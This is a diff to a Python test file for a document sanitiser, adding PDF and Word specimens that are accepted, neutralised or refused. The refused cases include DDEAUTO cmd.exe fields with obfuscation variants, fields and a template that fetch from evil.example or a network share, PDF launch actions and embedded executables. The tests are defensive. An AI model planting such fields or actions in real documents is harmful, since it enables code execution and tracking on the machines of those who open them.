@@ -11,10 +11,12 @@ from typing import NamedTuple
 
 from tests.infrastructure.files import EXE, JPEG, PDF, PNG, crowded, docm, docx, open_document, pdf, xlsx
 from tests.infrastructure.harmful import (
+    attaching,
     bomb,
     chart,
     compound,
     compressed_pdf,
+    deep_field,
     dtd,
     encrypted_pdf,
     huge_picture,
@@ -25,10 +27,13 @@ from tests.infrastructure.harmful import (
     nested_bomb,
     overlapping,
     package,
+    packed_script,
     relationships,
     scan,
     twice,
     understated,
+    with_fields,
+    with_form,
 )
 
 #: bytes that a file may have
@@ -84,7 +89,27 @@ TAKEN = [
         lambda: pdf(root=b"/OpenAction[3 0 R/Fit]"),
         "текст.pdf",
     ),
+    Specimen(
+        "a PDF with the data of an invoice",
+        "счёт.pdf",
+        lambda: attaching("factur-x.xml", b"<invoice/>"),
+        "счёт.pdf",
+    ),
+    Specimen("a PDF with a form of XFA", "анкета.pdf", lambda: with_form("<template/>"), "анкета.pdf"),
     Specimen("a document", "план.docx", docx, "план.docx"),
+    Specimen(
+        "fields of a table of contents, of a link and of a picture on the own disk",
+        "план.docx",
+        lambda: package(
+            {
+                "word/footer1.xml": '<w:ftr xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:instrText>'
+                'TOC \\o "1-3" \\h</w:instrText><w:fldChar w:fldCharType="end"/>'
+                '<w:fldSimple w:instr="HYPERLINK https://example.org/dde"/><w:instrText>INCLUDEPICTURE '
+                '"file:///C:\\\\Users\\\\a.png" \\d</w:instrText></w:ftr>'
+            }
+        ),
+        "план.docx",
+    ),
     Specimen("a document with a chart, its workbook, a picture, a link", "план.docx", chart, "план.docx"),
     Specimen(
         "a template on the author's own disk",
@@ -129,6 +154,27 @@ NEUTRALISED = [
     Specimen("a PDF that is an archive too", "два.pdf", lambda: PDF + docx(), "два.pdf"),
     Specimen("a photograph with a page behind it", "фото.jpg", _fixed(JPEG + _HTML), "фото.jpg"),
     Specimen("a picture with a page inside", "снимок.png", _fixed(PNG + _HTML), "снимок.png"),
+]
+
+_RUNS = "runs a script or starts a program"
+#: fields that run something or fetch from elsewhere, and what of it the person is told
+_FIELDS: list[tuple[str, Callable[[], bytes], str]] = [
+    ("DDE", lambda: with_fields("DDEAUTO c:\\\\cmd.exe"), "DDE"),
+    ("DDE in UTF-16", lambda: with_fields("DDEAUTO c:\\\\cmd.exe", "utf-16"), "DDE"),
+    ("DDE in two runs", lambda: with_fields("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd"), "DDE"),
+    ("DDE with a character by its number", lambda: with_fields("&#68;DE cmd"), "DDE"),
+    ("DDE in a part of another name", lambda: with_fields("DDEAUTO cmd", part="text/main.bin"), "DDE"),
+    ("DDE in a simple field", lambda: package({"a.xml": '<w:a><w:fldSimple w:instr="dde x"/></w:a>'}), "DDE"),
+    (
+        "a picture that a field fetches",
+        lambda: with_fields('INCLUDEPICTURE "http://evil.example/a.png" \\d'),
+        "http://evil.example/a.png",
+    ),
+    (
+        "a text that a field fetches from a share",
+        lambda: with_fields('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'),
+        "\\\\",
+    ),
 ]
 
 #: with what the person is told
@@ -235,6 +281,46 @@ REFUSED = [
         "скан.pdf",
         lambda: pdf(b"<</S/URI/URI(https://example.org)/Next[" + _LAUNCH + b"]>>", root=b"/OpenAction 4 0 R"),
         told="runs a script or starts a program",
+    ),
+    Specimen("a script of a bookmark, packed", "скан.pdf", packed_script, told=_RUNS),
+    Specimen(
+        "a bookmark that starts a program",
+        "скан.pdf",
+        lambda: pdf(
+            b"<</First 5 0 R/Last 5 0 R/Count 1>>",
+            b"<</Title(a)/Parent 4 0 R/A" + _LAUNCH + b">>",
+            root=b"/Outlines 4 0 R",
+        ),
+        told=_RUNS,
+    ),
+    Specimen("a script 21 fields deep", "анкета.pdf", lambda: deep_field(20), told=_RUNS),
+    Specimen(
+        "a form of XFA with a script",
+        "анкета.pdf",
+        lambda: with_form("<event><script>app.alert(1)</script></event>"),
+        told=_RUNS,
+    ),
+    Specimen(
+        "a program attached to a PDF",
+        "скан.pdf",
+        lambda: attaching("счёт.exe", EXE),
+        told="holds a program or another file inside: счёт.exe",
+    ),
+    Specimen(
+        "a program attached as data",
+        "скан.pdf",
+        lambda: attaching("data.xml", EXE),
+        told="holds a program or another file inside: data.xml",
+    ),
+    Specimen(
+        "a template from elsewhere, by a name in capitals",
+        "план.docx",
+        _related("word/_rels/settings.xml.RELS", _TEMPLATE, "https://evil.example/t.dotm"),
+        told="fetches something from elsewhere when it is opened: https://evil.example/t.dotm",
+    ),
+    *(
+        Specimen(what, "план.docx", make, told=f"fetches something from elsewhere when it is opened: {told}")
+        for what, make, told in _FIELDS
     ),
     Specimen(
         "a picture of 50,000 × 50,000",
